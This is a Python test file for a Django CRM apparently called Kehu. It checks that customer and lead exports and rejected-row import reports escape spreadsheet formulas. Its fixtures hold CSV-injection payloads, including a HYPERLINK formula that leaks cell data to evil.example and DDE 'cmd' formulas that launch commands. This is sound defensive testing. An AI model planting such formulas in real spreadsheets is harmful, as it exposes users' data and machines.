"""Every CSV and XLSX file Kehu hands out shows a stored formula as text: no cell (header
included) starts with = + - @ (or their full-width forms, or a tab) unless it is a plain number
such as a phone "+8613800138000" or "-5"."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kehu.core.common.exports import FORMULA_START, PLAIN_NUMBER
from kehu.core.common.testing import actor_for, api_client
from kehu.core.customfields.models import FieldDefinition
from kehu.customers.imports.report import RejectedRows
from kehu.customers.models import Customer, Segment
from kehu.leads import imports as lead_imports
from tests.security.hostile import build

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "＝1+1", "\t=1+1", "\r=1+1"]


@pytest.fixture
def world(db):
    world = build("exports", poison=False)
    customers = Customer.objects.filter(organization=world.organization).order_by("pk")
    for customer, formula in zip(customers, FORMULAS, strict=False):
        Customer.objects.filter(pk=customer.pk).update(
            name=formula, notes=formula, address=formula,
            custom_data={"hostile_text": formula, "hostile_choice": "plain"})
    FieldDefinition.objects.filter(organization=world.organization,
                                   key="hostile_text").update(label="=cmd|' /C calc'!A0")
    return world


def _cells(response) -> list[object]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return _cells_of(body, csv_file=response["Content-Type"].startswith("text/csv"))


def _cells_of(body: bytes, *, csv_file: bool) -> list[object]:
    if csv_file:
        return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    workbook = load_workbook(io.BytesIO(body))  # not read-only: formulas keep their type
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                cells.append(cell.value)
    return cells


def _dangerous(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)
            and not PLAIN_NUMBER.match(c)]


def _assert_safe(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    cells = _cells(response)
    assert "'" + FORMULAS[0] in cells  # the formula is there, as text
    assert "'=cmd|' /C calc'!A0" in cells  # the header too
    assert not _dangerous(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_customer_list_export(world, fmt):
    _assert_safe(world.client().get("/customers/export/", {"format": fmt}))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_selected_customers_export(world, fmt):
    ids = list(Customer.objects.filter(organization=world.organization).values_list("pk",
                                                                                      flat=True))
    _assert_safe(world.client().post("/customers/bulk/export/",
                                     {"format": fmt, "ids": ids, "selected": ids}))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_segment_export(world, fmt):
    segment = Segment.objects.filter(organization=world.organization).first()
    _assert_safe(world.client().get(f"/customers/segments/{segment.pk}/export/",
                                    {"format": fmt}))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_api_customer_export(world, fmt):
    _assert_safe(api_client(world.admin).get("/api/v1/customers/export", format=fmt))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_customer_import_rejected_rows_report(fmt):
    report = RejectedRows(headers=["名称", "=cmd|' /C calc'!A0"], fmt=fmt)
    report.add(2, [FORMULAS[0], "@SUM(A1)"], "=reason")
    path = report.finish()
    with open(path, "rb") as handle:
        body = handle.read()
    report.discard()
    cells = _cells_of(body, csv_file=fmt == "csv")
    assert "'" + FORMULAS[0] in cells and "'=cmd|' /C calc'!A0" in cells
    assert not _dangerous(cells)


def test_lead_import_rejected_rows_csv(world):
    data = ("姓名,=cmd|' /C calc'!A0,邮箱\n"
            ",=HYPERLINK(\"http://evil.example\"),not-an-email\n").encode()
    report = lead_imports.lead_import(actor=actor_for(world.admin), file_name="leads.csv",
                                      data=data, dry_run=True)
    assert report.rejected
    cells = [c for row in csv.reader(io.StringIO(
        lead_imports.rejected_csv(report).decode("utf-8-sig"))) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not _dangerous(cells)


def test_web_lead_import_rejected_csv_download(world):
    client = world.client()
    upload = SimpleUploadedFile("leads.csv", "姓名,=cmd\n,@SUM(A1)\n".encode())
    client.post("/leads/import/", {"file": upload})
    response = client.get("/leads/import/rejected.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
             for c in row]
    assert "'@SUM(A1)" in cells
    assert not _dangerous(cells)
